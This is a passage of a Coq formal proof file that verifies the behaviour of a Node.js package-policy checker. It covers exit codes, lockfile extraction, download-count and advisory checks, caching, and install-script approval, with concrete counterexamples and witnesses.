       ∃ err, checkRepo' dir h = (Throw err, afterAdvisoryRequest None h)).
Proof.
  intros Hinit Hjson. unfold checkRepo. rewrite Hinit. unfold inspectRepo.
  assert (Hdue : ∀ node config,
    node ≠ "" →
    opt_checkNodeVersion opts = true ∨ checkNodeVersionSetting config ≠ Some false →
    (opt_checkNodeVersion opts
     || negb (bool_decide (checkNodeVersionSetting config = Some false)))
    && truthy node = true).
  { intros node config Hnode Hdue. apply andb_true_intro. split.
    - destruct Hdue as [->|Hne]; [done|].
      rewrite bool_decide_eq_false_2 by done. apply orb_true_r.
    - unfold truthy. by rewrite (proj2 (String.eqb_neq _ _) Hnode). }
  split; [|split].
  - intros advisories Hmemo Hcompared. rewrite hbind_run.
    assert (Hfails : ∀ r,
      (∀ config, getConfig parseDuration (possibleFiles dir h) ≠ Ok config) →
      getConfig parseDuration (possibleFiles dir h) = r →
      processRepoAt satisfies basename getTime parseDuration opts irev drev dir h
      = (match r with
         | Ok _ => Ok tt
         | Throw err => Throw err
         | Exit code => Exit code
         end, h)).
    { intros r Hno Hr. unfold processRepoAt. rewrite hbind_run. unfold getConfigAt.
      rewrite Hr. destruct r as [config| |]; [by destruct (Hno config)|done..]. }
    unfold getConfigAt at 1.
    destruct (getConfig parseDuration (possibleFiles dir h)) as [config|err|code] eqn:Hcfg.
    2,3: by rewrite (Hfails _ ltac:(done) eq_refl).
    clear Hfails.
    rewrite hbind_run. unfold readEnginesNode. rewrite Hjson, hbind_run.
    assert (Hstep :
      (match enginesNode return HM unit with
       | Some node =>
           if (opt_checkNodeVersion opts
               || negb (bool_decide (checkNodeVersionSetting config = Some false)))
              && truthy node
           then checkNodeVersion' node ≫= λ _, mret tt
           else mret tt
       | None => mret tt
       end) h = (Ok tt, h)).
    { destruct enginesNode as [node|]; [|done].
      destruct ((opt_checkNodeVersion opts
                 || negb (bool_decide (checkNodeVersionSetting config = Some false)))
                && truthy node) eqn:Hcheck; [|done].
      apply andb_prop in Hcheck as [Hon Hnode].
      assert (Hall : Forall (compared intersects node) advisories).
      { apply (Hcompared node config); [done| |done|].
        - unfold truthy in Hnode. intros ->. by simpl in Hnode.
        - apply orb_prop in Hon as [Hon|Hon]; [by left|right].
          apply negb_true_iff, bool_decide_eq_false in Hon. done. }
      rewrite hbind_run. pose proof (checkNodeVersion_run node h) as Hrun.
      rewrite Hmemo in Hrun. rewrite Hrun.
      pose proof (advisoryProblems_spec node advisories) as Hspec.
      by destruct (advisoryProblems intersects node advisories). }
    by rewrite Hstep.
  - intros advisories node config -> Hnode Hmemo Hcfg Hon Hnot.
    rewrite hbind_run. unfold getConfigAt. rewrite Hcfg, hbind_run.
    unfold readEnginesNode. rewrite Hjson, hbind_run.
    rewrite (Hdue node config Hnode Hon), hbind_run.
    pose proof (checkNodeVersion_run node h) as Hrun.
    rewrite Hmemo in Hrun. rewrite Hrun.
    pose proof (advisoryProblems_spec node advisories) as Hspec.
    destruct (advisoryProblems intersects node advisories) as [problems|err|code].
    + by destruct Hspec as [Hall _].
    + by eexists.
    + done.
  - intros node config -> Hnode Hmemo Hfeed Hcfg Hon.
    rewrite hbind_run. unfold getConfigAt. rewrite Hcfg, hbind_run.
    unfold readEnginesNode. rewrite Hjson, hbind_run.
    rewrite (Hdue node config Hnode Hon), hbind_run.
    unfold checkNodeVersion. rewrite hbind_run.
    unfold getNodeAdvisories. rewrite Hmemo, Hfeed. by eexists.
Qed.

Lemma exitsOnly_bind {A B : Type} (codes : Z → Prop) (m : HM A) (k : A → HM B) :
  exitsOnly codes m → (∀ a, exitsOnly codes (k a)) → exitsOnly codes (m ≫= k).
Proof.
  intros Hm Hk h code h'. rewrite hbind_run.
  destruct (m h) as [[a|err|code0] h1] eqn:Hrun; [apply Hk|done|].
  intros [= <- <-]. by eapply Hm.
Qed.

Lemma exitsOnly_forEach {A : Type} (codes : Z → Prop) (body : A → HM unit)
    (xs : list A) :
  (∀ x, exitsOnly codes (body x)) → exitsOnly codes (forEach body xs).
Proof.
  intros Hbody. induction xs as [|x xs IH]; simpl; [by intros h code h'|].
  apply exitsOnly_bind; [apply Hbody|]. intros _. apply IH.
Qed.

Lemma exitsOnly_checkNodeVersion (codes : Z → Prop) nodeVersion :
  exitsOnly codes (checkNodeVersion' nodeVersion).
Proof.
  intros h code h' Hrun. pose proof (checkNodeVersion_run nodeVersion h) as Hcases.
  destruct (nodeAdvisories h) as [advisories|].
  - rewrite Hrun in Hcases. injection Hcases as Hp _.
    by destruct (advisoryProblems_no_exit nodeVersion advisories code).
  - destruct Hcases as [[advisories Hp]|[err Hp]]; rewrite Hrun in Hp; [|done].
    injection Hp as Hp _.
    by destruct (advisoryProblems_no_exit nodeVersion advisories code).
Qed.

(** [processRepo] ends the process only with code [1], and only when the
    run is in CI mode or the answer to the prompt is neither [y] nor the
    empty line, for which [read] returns the default [y]. *)
Lemma processRepo_exit env config dir w code w' :
  processRepo satisfies basename getTime env irev drev config dir w = (Exit code, w') →
  code = 1%Z
  ∧ (opt_ci env = true ∨ ∃ n line, answer env n = Some line ∧ line ≠ "" ∧ line ≠ "y").
Proof.
  unfold processRepo. rewrite mbind_run.
  destruct (collectAndReconcile _ _ _ _ _ _ _ _ w) as [[reconciled|err|code0] w1] eqn:Hrun;
    [|done|].
  - unfold approveOrFail. destruct (length (r_warnings reconciled) =? 0); [done|].
    destruct (opt_ci env) eqn:Hci.
    { unfold exit. intros [= <- <-]. split; [done|by left]. }
    rewrite mbind_run. unfold read.
    destruct (answer env (prompts w1)) as [line|] eqn:Hanswer; [|done].
    unfold truthy. destruct (String.eqb_spec line "") as [->|Hline]; simpl; [|].
    { unfold writePolicyLock. by destruct (policyLockWritable env). }
    destruct (String.eqb_spec line "y") as [->|Hn].
    { unfold writePolicyLock. by destruct (policyLockWritable env). }
    unfold exit. intros [= <- <-]. split; [done|]. right. by eexists _, _.
  - eapply (stays_collectAndReconcile satisfies basename getTime env irev drev config dir
              anyWorld (λ _, True)) in Hrun; try done.
    destruct Hrun as [_ Hne]. by destruct (Hne code0).
Qed.

(** X28.  The exit codes of the tool: [main] ends the process with code
    [0] only for the help shown when no directory is given, with code [2]
    only from the check of the running Node.js, and with code [1] only from
    [processRepo], in CI mode or on an answer other than [y] and other than
    the empty line, which [read] turns into [y]; with [--init] it never
    ends with code [1]. *)
Theorem exit_codes_of_main dirs h code h' :
  main satisfies intersects basename getTime parseDuration opts irev drev crev dirs h
  = (Exit code, h') →
  (code = 0%Z ∧ dirs = [] ∧ h' = h)
  ∨ (code = 2%Z ∧ dirs ≠ [] ∧ opt_checkNodeVersion opts = true)
  ∨ (code = 1%Z ∧ dirs ≠ [] ∧ opt_init opts = false
     ∧ (opt_ci (run_env opts) = true
        ∨ ∃ n line, answer (run_env opts) n = Some line ∧ line ≠ "" ∧ line ≠ "y")).
Proof.
  unfold main. rewrite hbind_run. destruct dirs as [|d dirs].
  { unfold exitProcess. intros [= <- <-]. by left. }
  rewrite hret_run. intros Hrun. right.
  revert h code h' Hrun.
  fold (exitsOnly (A := unit)
          (λ code,
             (code = 2%Z ∧ d :: dirs ≠ [] ∧ opt_checkNodeVersion opts = true)
             ∨ (code = 1%Z ∧ d :: dirs ≠ [] ∧ opt_init opts = false
                ∧ (opt_ci (run_env opts) = true
                   ∨ ∃ n line,
                       answer (run_env opts) n = Some line ∧ line ≠ "" ∧ line ≠ "y")))
          (checkCurrentNode' ≫= λ _, forEach checkRepo' (d :: dirs))).
  apply exitsOnly_bind.
  - unfold checkCurrentNode. destruct (opt_checkNodeVersion opts) eqn:Hcheck;
      [|by intros h code h'].
    apply exitsOnly_bind; [apply exitsOnly_checkNodeVersion|].
    intros [|problem problems]; [by intros h code h'|].
    intros h code h'. unfold exitProcess. intros [= <- <-]. by left.
  - intros _. apply exitsOnly_forEach. intros dir. unfold checkRepo.
    destruct (opt_init opts) eqn:Hinit.
    { intros h code h'. unfold initRepo. by repeat case_match. }
    unfold inspectRepo. apply exitsOnly_bind.
    { intros h code h'. unfold getConfigAt. intros [= Hcfg _].
      by destruct (getConfig_no_exit parseDuration (possibleFiles dir h) code). }
    intros config. apply exitsOnly_bind.
    { intros h code h'. unfold readEnginesNode. by repeat case_match. }
    intros enginesNode. apply exitsOnly_bind.
    { destruct enginesNode as [node|]; [|by intros h code h'].
      case_match; [|by intros h code h'].
      apply exitsOnly_bind; [apply exitsOnly_checkNodeVersion|].
      by intros _ h code h'. }
    intros _. unfold processRepoAt. apply exitsOnly_bind.
    { intros h code h'. unfold getConfigAt. intros [= Hcfg _].
      by destruct (getConfig_no_exit parseDuration (possibleFiles dir h) code). }
    intros config' h code h'. unfold processRepoWith.
    destruct (processRepo satisfies basename getTime (envAt opts (filesOf h dir)) irev drev
                (policy config') (repoDir dir (filesOf h dir)) (worldOf h dir))
      as [r w'] eqn:Hrun.
    simpl. intros [= -> _]. apply processRepo_exit in Hrun as [-> Hwhy].
    right. by repeat split.
Qed.
End process.

(** ** Examples, counterexamples and witnesses *)

(** Counterexample to C5: in [src/lib/index.ts] the key is the bare
    threshold. *)
Lemma lib_index_key_is_bare_threshold :
  downloadCheck offlineEnv lib_index_ts unnamed_part_003 thresholdConfig leftPadDep
    leftPadCollected emptyWorld
  = (Ok {| warnings :=
             [ {| w_package := "left-pad";
                  w_message := "had 3 downloads last week";
                  w_type := minWeeklyDownloads;
                  w_cacheKey := "100" |} ];
           packageDownloadCache :=
             {| kind := PlainObject; own := {[ "left-pad" := 3%Z ]} |};
           checkedPackageDownloads := {[ "left-pad" ]} |},
     emptyWorld)
  ∧ "100" ≠ "minWeeklyDownloads=100".
Proof. split; [by vm_compute|discriminate]. Qed.

(** Counterexample to C9: [src/lib/index.ts] stores an entry marked
    [optional: true]. *)
Lemma lib_index_keeps_optional_entries :
  readInstalledPackagesFromLockfile satisfies_example basename_posix lib_index_ts
    emptyConfig (npmDir [("node_modules/fsevents", optionalFsevents)])
  = Ok [ {| d_name := "fsevents"; d_path := "node_modules/fsevents";
            d_version := "2.3.3"; d_license := None |} ].
Proof. by vm_compute. Qed.

(** Counterexample to C4: three blacklisted entries on which extraction
    returns.  The first
    is marked [link: true]; the second is marked [optional: true], in
    [part_002]; the third has the name@version string of an earlier entry
    with another name and version.  And a run over a blacklisted entry that
    ends with another error than that of the extraction:
    [package-policy.lock] is parsed first. *)
Lemma blacklisted_entries_without_abort :
  (blacklistedEntry satisfies_example basename_posix lodashBlocked
     "node_modules/lodash" linkedLodash = true
   ∧ readInstalledPackagesFromLockfile satisfies_example basename_posix lib_index_ts
       lodashBlocked (npmDir [("node_modules/lodash", linkedLodash)]) = Ok []
   ∧ readInstalledPackagesFromLockfile satisfies_example basename_posix unnamed_part_002
       lodashBlocked (npmDir [("node_modules/lodash", linkedLodash)]) = Ok [])
  ∧ (blacklistedEntry satisfies_example basename_posix fseventsBlocked
       "node_modules/fsevents" optionalFsevents = true
     ∧ readInstalledPackagesFromLockfile satisfies_example basename_posix unnamed_part_002
         fseventsBlocked (npmDir [("node_modules/fsevents", optionalFsevents)]) = Ok [])
  ∧ (blacklistedEntry satisfies_example basename_posix scopedBlocked
       "node_modules/x" (namedSpec "a@b" "1.0.0") = true
     ∧ skippedEntry unnamed_part_002 "node_modules/x" (namedSpec "a@b" "1.0.0") = false
     ∧ readInstalledPackagesFromLockfile satisfies_example basename_posix lib_index_ts
         scopedBlocked
         (npmDir [("node_modules/a", namedSpec "a" "b@1.0.0");
                  ("node_modules/x", namedSpec "a@b" "1.0.0")])
       = Ok [ {| d_name := "a"; d_path := "node_modules/a";
                 d_version := "b@1.0.0"; d_license := None |} ])
  ∧ (readInstalledPackagesFromLockfile satisfies_example basename_posix lib_index_ts
       lodashBlocked (npmDir [("node_modules/lodash", plainSpec "4.17.21")])
     = Throw "Blacklisted version lodash@4.17.21 (*)"
     ∧ processRepo satisfies_example basename_posix getTime_example offlineEnv
         lib_index_ts unnamed_part_003 lodashBlocked
         (npmDir [("node_modules/lodash", plainSpec "4.17.21")]) unparsableLockWorld
       = (Throw "YAMLParseError", unparsableLockWorld)).
Proof. repeat split; by vm_compute. Qed.

(** Witness of C3, at [left-pad@1.3.0]: the stored record serves the
    version and is returned without a request. *)
Lemma cacheRegistry_hit_witness :
  opt_cache offlineEnv = true
  ∧ cacheRegistry offlineEnv "left-pad" "1.3.0" leftPadWorld = (Ok leftPadRecord, leftPadWorld).
Proof.
  split; [reflexivity|].
  apply (proj1 (cacheRegistry_hit_or_single_fetch offlineEnv "left-pad" "1.3.0"
                  leftPadWorld eq_refl)).
  unfold servesVersion. split; [vm_compute; reflexivity|].
  split; [reflexivity|]. eexists. vm_compute. reflexivity.
Defined.

(** The other branch of [cacheRegistry]: nothing is stored, the registry is
    asked once, and the record it answers with is returned and stored. *)
Example cacheRegistry_miss_example :
  cacheRegistry registryEnv "left-pad" "1.3.0" emptyWorld
  = (Ok leftPadRecord,
     setRegistryCacheFile "left-pad" (StoredRecord leftPadRecord)
       (logRequest "https://registry.npmjs.org/left-pad" emptyWorld)).
Proof. by vm_compute. Qed.

(** Witness of C4, at a lockfile with [lodash@4.17.21], blocked and also
    ignored. *)
Lemma blacklisted_entry_witness :
  blacklistedEntry satisfies_example basename_posix lodashBlocked
    "node_modules/lodash" (plainSpec "4.17.21") = true
  ∧ ignoredEntry satisfies_example basename_posix lodashBlocked
      "node_modules/lodash" (plainSpec "4.17.21") = true
  ∧ ∃ err,
      readInstalledPackagesFromLockfile satisfies_example basename_posix lib_index_ts
        lodashBlocked
        (npmDir [("", plainSpec "0.0.1"); ("node_modules/lodash", plainSpec "4.17.21")])
      = Throw err
      ∧ ∀ w, ∃ err',
          processRepo satisfies_example basename_posix getTime_example offlineEnv
            lib_index_ts unnamed_part_003 lodashBlocked
            (npmDir [("", plainSpec "0.0.1");
                     ("node_modules/lodash", plainSpec "4.17.21")]) w
          = (Throw err', w)
          ∧ (packagePolicyLock w ≠ Some BadPolicyLock → err' = err).
Proof.
  split; [by vm_compute|]. split; [by vm_compute|].
  refine (proj1 (blacklisted_entry_aborts satisfies_example basename_posix
                   getTime_example offlineEnv lib_index_ts unnamed_part_003 lodashBlocked
                   (npmDir [("", plainSpec "0.0.1");
                            ("node_modules/lodash", plainSpec "4.17.21")])
                   [("", plainSpec "0.0.1")] "node_modules/lodash" (plainSpec "4.17.21") []
                   eq_refl eq_refl _ _)).
  - by vm_compute.
  - intros p' s' Hin Hkey. apply list_elem_of_singleton in Hin.
    injection Hin as -> ->. vm_compute in Hkey. discriminate Hkey.
Defined.

(** Witness of C8: [foo@1.0.0] installed under two paths. *)
Lemma extractor_witness :
  readInstalledPackagesFromLockfile satisfies_example basename_posix lib_index_ts
    emptyConfig fooBarDir = Ok fooBarDeps
  ∧ NoDup (nameAtVersion <$> fooBarDeps)
  ∧ StronglySorted (le_by d_name) fooBarDeps.
Proof.
  assert (Hrun : readInstalledPackagesFromLockfile satisfies_example basename_posix
                   lib_index_ts emptyConfig fooBarDir = Ok fooBarDeps) by (by vm_compute).
  split; [exact Hrun|].
  destruct (extractor_dedups_and_sorts satisfies_example basename_posix lib_index_ts
              emptyConfig fooBarDir fooBarDeps Hrun) as (Hnodup & Hsorted & _).
  by split.
Defined.

(** Witness of C9, at a lockfile of [part_002] with the optional
    [fsevents]. *)
Lemma passed_over_witness :
  readInstalledPackagesFromLockfile satisfies_example basename_posix unnamed_part_002
    emptyConfig
    (npmDir [("node_modules/foo", plainSpec "1.0.0");
             ("node_modules/fsevents", optionalFsevents)])
  = readInstalledPackagesFromLockfile satisfies_example basename_posix unnamed_part_002
      emptyConfig
      (withPackages ([("node_modules/foo", plainSpec "1.0.0")] ++ [])
         (npmDir [("node_modules/foo", plainSpec "1.0.0");
                  ("node_modules/fsevents", optionalFsevents)])).
Proof.
  refine (proj1 (passed_over_entries_emit_nothing satisfies_example basename_posix
                   unnamed_part_002 emptyConfig
                   (npmDir [("node_modules/foo", plainSpec "1.0.0");
                            ("node_modules/fsevents", optionalFsevents)])
                   [("node_modules/foo", plainSpec "1.0.0")]
                   "node_modules/fsevents" optionalFsevents [] eq_refl _)).
  right. right. by split.
Defined.


(** Counterexample to C7, at the run that finds the install script of
    [left-pad].  On the empty answer, which is no explicit acceptance, the
    rebuilt record is stored and the run returns: [read] gives the default
    [y].  On the answer [y] the record is not stored when the file cannot
    be written.  And with nothing left to approve the run does not
    complete when the popularity cache cannot be saved. *)
Lemma decision_is_not_by_explicit_answer_alone :
  processRepo satisfies_example basename_posix getTime_example (answering "")
    lib_index_ts unnamed_part_003 emptyConfig leftPadDir leftPadWorld
  = (Ok tt,
     setPackagePolicyLock
       {| pl_version := 1;
          pl_packages := [ {| a_package := "left-pad@1.3.0";
                              a_type := script;
                              a_cacheKey := "postinstall: node setup.js" |} ] |}
       (countPrompt leftPadWorld))
  ∧ processRepo satisfies_example basename_posix getTime_example lockedEnv
      lib_index_ts unnamed_part_003 emptyConfig leftPadDir leftPadWorld
    = (Throw "EACCES", countPrompt leftPadWorld)
  ∧ r_warnings
      (reconcile [] (warnings (emptyCollected)))
    = []
  ∧ collectWarnings satisfies_example basename_posix getTime_example readOnlyEnv
      lib_index_ts unnamed_part_003 thresholdConfig (npmDir [("", plainSpec "0.0.1")])
      emptyWorld
    = (Ok ([], emptyCollected), emptyWorld)
  ∧ processRepo satisfies_example basename_posix getTime_example readOnlyEnv
      lib_index_ts unnamed_part_003 thresholdConfig (npmDir [("", plainSpec "0.0.1")])
      emptyWorld
    = (Throw "EACCES", emptyWorld).
Proof. repeat split; by vm_compute. Qed.

(** Witness of C7, at a run that finds the install script of [left-pad]:
    on the answer [y] the rebuilt record is stored, on the answer [n] the
    run exits with code 1 and nothing is stored, and when the prompt fails
    the run ends with the error. *)
Lemma decision_witness :
  processRepo satisfies_example basename_posix getTime_example offlineEnv
    lib_index_ts unnamed_part_003 emptyConfig leftPadDir leftPadWorld
  = (Ok tt,
     setPackagePolicyLock
       {| pl_version := 1;
          pl_packages := [ {| a_package := "left-pad@1.3.0";
                              a_type := script;
                              a_cacheKey := "postinstall: node setup.js" |} ] |}
       (countPrompt leftPadWorld))
  ∧ processRepo satisfies_example basename_posix getTime_example (answering "n")
      lib_index_ts unnamed_part_003 emptyConfig leftPadDir leftPadWorld
    = (Exit 1%Z, countPrompt leftPadWorld)
  ∧ ∃ err,
      processRepo satisfies_example basename_posix getTime_example closedInputEnv
        lib_index_ts unnamed_part_003 emptyConfig leftPadDir leftPadWorld
      = (Throw err, countPrompt leftPadWorld).
Proof.
  pose (found :=
    {| warnings := [ {| w_package := "left-pad@1.3.0";
                        w_message := "will run script " +:+ dquote +:+ "postinstall"
                                       +:+ dquote +:+ ": " +:+ dquote
                                       +:+ "node setup.js" +:+ dquote;
                        w_type := script;
                        w_cacheKey := "postinstall: node setup.js" |} ];
       packageDownloadCache := {| kind := PlainObject; own := {[ "left-pad" := 3%Z ]} |};
       checkedPackageDownloads := ∅ |}).
  assert (Hyes :
    collectWarnings satisfies_example basename_posix getTime_example offlineEnv
      lib_index_ts unnamed_part_003 emptyConfig leftPadDir leftPadWorld
    = (Ok ([], found), leftPadWorld)) by (by vm_compute).
  assert (Hno :
    collectWarnings satisfies_example basename_posix getTime_example (answering "n")
      lib_index_ts unnamed_part_003 emptyConfig leftPadDir leftPadWorld
    = (Ok ([], found), leftPadWorld)) by (by vm_compute).
  assert (Hclosed :
    collectWarnings satisfies_example basename_posix getTime_example closedInputEnv
      lib_index_ts unnamed_part_003 emptyConfig leftPadDir leftPadWorld
    = (Ok ([], found), leftPadWorld)) by (by vm_compute).
  split; [|split].
  - destruct (decision_after_filtering satisfies_example basename_posix getTime_example
                offlineEnv lib_index_ts unnamed_part_003 emptyConfig leftPadDir
                leftPadWorld _ _ _ Hyes) as (_ & _ & _ & _ & Hdecide).
    destruct (Hdecide (or_introl eq_refl)) as (_ & _ & Hasked).
    exact (Hasked ltac:(discriminate) eq_refl).
  - destruct (decision_after_filtering satisfies_example basename_posix getTime_example
                (answering "n") lib_index_ts unnamed_part_003 emptyConfig leftPadDir
                leftPadWorld _ _ _ Hno) as (_ & _ & _ & _ & Hdecide).
    destruct (Hdecide (or_introl eq_refl)) as (_ & _ & Hasked).
    exact (Hasked ltac:(discriminate) eq_refl).
  - destruct (decision_after_filtering satisfies_example basename_posix getTime_example
                closedInputEnv lib_index_ts unnamed_part_003 emptyConfig leftPadDir
                leftPadWorld _ _ _ Hclosed) as (_ & _ & _ & _ & Hdecide).
    destruct (Hdecide (or_introl eq_refl)) as (_ & _ & Hasked).
    exact (Hasked ltac:(discriminate) eq_refl).
Defined.

(** [part_002] at [left-pad@1.3.0]: the stored keys include the version. *)
Lemma cacheRegistryKeys_hit_witness :
  opt_cache offlineEnv = true
  ∧ cacheRegistryKeys offlineEnv "left-pad" "1.3.0" leftPadKeysWorld
    = (Ok leftPadKeys, leftPadKeysWorld).
Proof.
  split; [reflexivity|].
  apply (proj1 (cacheRegistryKeys_hit_or_single_fetch offlineEnv "left-pad" "1.3.0"
                  leftPadKeysWorld eq_refl)).
  unfold servesVersionKeys. split; [vm_compute; reflexivity|].
  split; [reflexivity|]. right. left.
Defined.

(** Witness of the sentinel of [part_003], with the network down. *)
Lemma failed_popularity_fetch_witness :
  popularityFetchFails offlineEnv emptyWorld "left-pad"
  ∧ checkPackageDownloads offlineEnv unnamed_part_003 "left-pad" emptyWorld
    = (Ok (-1)%Z, logRequest (downloadsUrl "left-pad") emptyWorld).
Proof.
  split; [exact I|].
  refine (proj1 (failed_popularity_fetch_is_unknown offlineEnv lib_index_ts
                   thresholdConfig leftPadDep
                   emptyCollected emptyWorld 100 I eq_refl _ (or_introl eq_refl))).
  apply not_elem_of_empty.
Defined.

(** A run over [left-pad] whose cached count is [0]: the downloads are
    requested. *)
Lemma falsy_cached_count_witness :
  enableDownloadCheck thresholdConfig = Some 100%Z
  ∧ downloadsUrl "left-pad"
    ∈ fetched
        (checkAll getTime_example offlineEnv lib_index_ts unnamed_part_003 thresholdConfig
           [leftPadDep]
           {| warnings := [];
              packageDownloadCache :=
                {| kind := PlainObject; own := {[ "left-pad" := 0%Z ]} |};
              checkedPackageDownloads := ∅ |}
           emptyWorld).2.
Proof.
  split; [reflexivity|].
  destruct (checkAll getTime_example offlineEnv lib_index_ts unnamed_part_003
              thresholdConfig [leftPadDep]
              {| warnings := [];
                 packageDownloadCache :=
                   {| kind := PlainObject; own := {[ "left-pad" := 0%Z ]} |};
                 checkedPackageDownloads := ∅ |}
              emptyWorld) as [[st'|err|code] w'] eqn:Hrun.
  - destruct (downloads_are_requested_where_the_cache_reads_falsy getTime_example
                offlineEnv lib_index_ts unnamed_part_003 thresholdConfig [leftPadDep]
                {| kind := PlainObject; own := {[ "left-pad" := 0%Z ]} |}
                emptyWorld st' w' 100 eq_refl eq_refl Hrun)
      as ((more & Hw' & Hasked & _) & _).
    simpl. rewrite Hw'. apply elem_of_app. right.
    apply (Hasked leftPadDep); [left|]. right. by vm_compute.
  - vm_compute in Hrun. discriminate Hrun.
  - vm_compute in Hrun. discriminate Hrun.
Defined.

(** C10, at the failing input.  [constructor] is installed, the popularity
    cache is the empty object (there is no [package-downloads.json]) and
    holds no count for it, and the downloads API would report [5] downloads,
    below the threshold [100].  [packageDownloadCache[dep.name]] reads the
    function that every object inherits under that name, which is truthy:
    in both revisions of [processRepo] the downloads are not requested, no
    warning is pushed and the run ends with nothing to approve.  For
    [left-pad], under the same cache, the downloads are requested and the
    warning is pushed. *)
Theorem inherited_property_passes_for_a_cached_count :
  getPackageDownloadCache emptyWorld = (Ok emptyObject, emptyWorld)
  ∧ own emptyObject !! "constructor" = None
  ∧ getProperty downloadsEnv emptyObject "constructor"
    = Some (NotACount (nativeFunction "Object"))
  ∧ (∀ irev drev,
       downloadCheck downloadsEnv irev drev thresholdConfig constructorDep
         emptyCollected emptyWorld
       = (Ok {| warnings := [];
                packageDownloadCache := emptyObject;
                checkedPackageDownloads := {[ "constructor" ]} |},
          emptyWorld))
  ∧ (∀ irev drev,
       let run :=
         processRepo satisfies_example basename_posix getTime_example downloadsEnv
           irev drev thresholdConfig constructorDir emptyWorld in
       run.1 = Ok tt
       ∧ (downloadsUrl "constructor" ∉ fetched (run.2))
       ∧ prompts (run.2) = 0
       ∧ packagePolicyLock (run.2) = None)
  ∧ (∀ irev drev,
       ∃ st',
         downloadCheck downloadsEnv irev drev thresholdConfig leftPadDep
           emptyCollected emptyWorld
         = (Ok st', logRequest (downloadsUrl "left-pad") emptyWorld)
         ∧ w_package <$> warnings st' = ["left-pad"]
         ∧ w_type <$> warnings st' = [minWeeklyDownloads]
         ∧ own (packageDownloadCache st') !! "left-pad" = Some 5%Z).
Proof.
  split; [done|]. split; [done|]. split; [by vm_compute|].
  split; [by intros [] []; vm_compute|]. split.
  - intros irev drev run. unfold run. clear run.
    destruct irev, drev; vm_compute; (repeat split; try done);
      intros Hin; repeat (apply elem_of_cons in Hin as [Hin|Hin]; [discriminate Hin|]);
      by apply elem_of_nil in Hin.
  - intros [] []; eexists; (split; [by vm_compute|]); by vm_compute.
Qed.

(** ** Witnesses of the further properties *)

(** A nested installation below [@babel/core]. *)
Lemma packageNameFromPath_innermost_witness :
  packageNameFromPath basename_posix "node_modules/@babel/core/node_modules/package"
  = "package".
Proof.
  exact (packageNameFromPath_innermost basename_posix "node_modules/@babel/core/"
           "package" ltac:(discriminate) eq_refl).
Defined.

(** The scoped package [@babel/core] and the plain [package], at top
    level. *)
Lemma packageNameFromPath_top_level_witness :
  packageNameFromPath basename_posix "node_modules/@babel/core" = "@babel/core"
  ∧ packageNameFromPath basename_posix "node_modules/package"
    = basename_posix "node_modules/package".
Proof.
  split.
  - exact (proj1 (packageNameFromPath_top_level basename_posix "@babel/core" eq_refl)
             "babel/core" eq_refl eq_refl).
  - exact (proj2 (packageNameFromPath_top_level basename_posix "package" eq_refl) eq_refl).
Defined.

(** [lodash] is ignored: only [foo] is extracted, and [foo] is not
    ignored. *)
Lemma ignored_versions_witness :
  readInstalledPackagesFromLockfile satisfies_example basename_posix lib_index_ts
    lodashIgnored lodashAndFooDir = Ok [fooDep]
  ∧ matchingRange satisfies_example (c_ignore lodashIgnored) "foo" "1.0.0" = None.
Proof.
  assert (Hrun : readInstalledPackagesFromLockfile satisfies_example basename_posix
                   lib_index_ts lodashIgnored lodashAndFooDir = Ok [fooDep])
    by (by vm_compute).
  split; [exact Hrun|].
  apply (ignored_versions_are_not_extracted satisfies_example basename_posix lib_index_ts
           lodashIgnored lodashAndFooDir [fooDep] fooDep Hrun).
  left.
Defined.

(** A directory with [yarn.lock] only. *)
Lemma run_needs_package_lock_witness :
  ∃ err,
    readInstalledPackagesFromLockfile satisfies_example basename_posix lib_index_ts
      emptyConfig yarnDir = Throw err
    ∧ ∀ w, ∃ err',
        processRepo satisfies_example basename_posix getTime_example offlineEnv
          lib_index_ts unnamed_part_003 emptyConfig yarnDir w = (Throw err', w)
        ∧ (packagePolicyLock w ≠ Some BadPolicyLock → err' = err).
Proof.
  exact (run_needs_package_lock satisfies_example basename_posix getTime_example
           offlineEnv lib_index_ts unnamed_part_003 emptyConfig yarnDir eq_refl).
Defined.

(** The record of [left-pad] fetched from the registry is served from the
    cache afterwards. *)
Lemma cacheRegistry_served_again_witness :
  cacheRegistry registryEnv "left-pad" "1.3.0"
    (cacheRegistry registryEnv "left-pad" "1.3.0" emptyWorld).2
  = (Ok leftPadRecord, (cacheRegistry registryEnv "left-pad" "1.3.0" emptyWorld).2).
Proof.
  apply (proj1 (cacheRegistry_result_is_served_again registryEnv "left-pad" "1.3.0"
                  emptyWorld eq_refl eq_refl)).
  - by vm_compute.
  - eexists. by vm_compute.
Defined.

(** A run without [--cache] over [left-pad]. *)
Lemma cache_option_off_witness :
  cacheFiles
    (processRepo satisfies_example basename_posix getTime_example noCacheEnv
       lib_index_ts unnamed_part_003 thresholdConfig leftPadDir leftPadWorld).2
  = cacheFiles leftPadWorld.
Proof.
  exact (cache_option_off_keeps_cache_files satisfies_example basename_posix
           getTime_example noCacheEnv lib_index_ts unnamed_part_003 thresholdConfig
           leftPadDir leftPadWorld eq_refl).
Defined.

(** A run with the popularity check on and a cache directory that cannot
    be written. *)
Lemma unwritable_cache_dir_witness :
  ∃ err w',
    processRepo satisfies_example basename_posix getTime_example readOnlyEnv
      lib_index_ts unnamed_part_003 thresholdConfig leftPadDir leftPadWorld
    = (Throw err, w')
    ∧ packagePolicyLock w' = packagePolicyLock leftPadWorld
    ∧ prompts w' = prompts leftPadWorld.
Proof.
  apply (unwritable_cache_dir_fails_the_run satisfies_example basename_posix
           getTime_example readOnlyEnv lib_index_ts unnamed_part_003 thresholdConfig
           leftPadDir leftPadWorld eq_refl eq_refl).
  by eexists.
Defined.

(** The count [3] cached for [left-pad] is saved again. *)
Lemma cached_counts_witness :
  ∃ saved,
    packageDownloadsJson
      (collectAndReconcile satisfies_example basename_posix getTime_example offlineEnv
         lib_index_ts unnamed_part_003 thresholdConfig leftPadDir leftPadWorld).2
    = Some (DownloadsJson saved)
    ∧ saved !! "left-pad" = Some 3%Z.
Proof.
  destruct (collectAndReconcile satisfies_example basename_posix getTime_example
              offlineEnv lib_index_ts unnamed_part_003 thresholdConfig leftPadDir
              leftPadWorld) as [[reconciled|err|code] w'] eqn:Hrun.
  - destruct (cached_counts_never_expire satisfies_example basename_posix getTime_example
                offlineEnv lib_index_ts unnamed_part_003 thresholdConfig leftPadDir
                leftPadWorld {[ "left-pad" := 3%Z ]} reconciled w' eq_refl
                ltac:(by eexists) eq_refl Hrun) as (saved & Hsaved & Hkept).
    exists saved. split; [exact Hsaved|]. apply Hkept; [by vm_compute|discriminate].
  - vm_compute in Hrun. discriminate Hrun.
